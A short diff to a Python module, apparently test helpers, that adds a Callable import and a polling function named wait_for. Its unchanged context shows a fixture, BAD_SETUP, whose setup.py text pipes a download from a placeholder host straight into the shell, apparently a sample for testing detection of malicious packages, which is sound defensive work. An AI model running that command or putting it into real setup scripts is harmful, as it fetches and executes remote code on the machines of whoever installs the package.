@@ -9,7 +9,7 @@ import socket
 import threading
 import time
 import uuid
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -274,3 +274,13 @@ BAD_SETUP = (
     "os.system('curl -s http://payload.example/x.sh | sh')\n"
     "setup(name='demo', version='0.1')\n"
 )
+
+
+def wait_for(predicate: Callable[[], object], seconds: float = 20.0) -> bool:
+    """Poll ``predicate`` every 0.25 s until it is true or ``seconds`` pass."""
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        if predicate():
+            return True
+        time.sleep(0.25)
+    return False
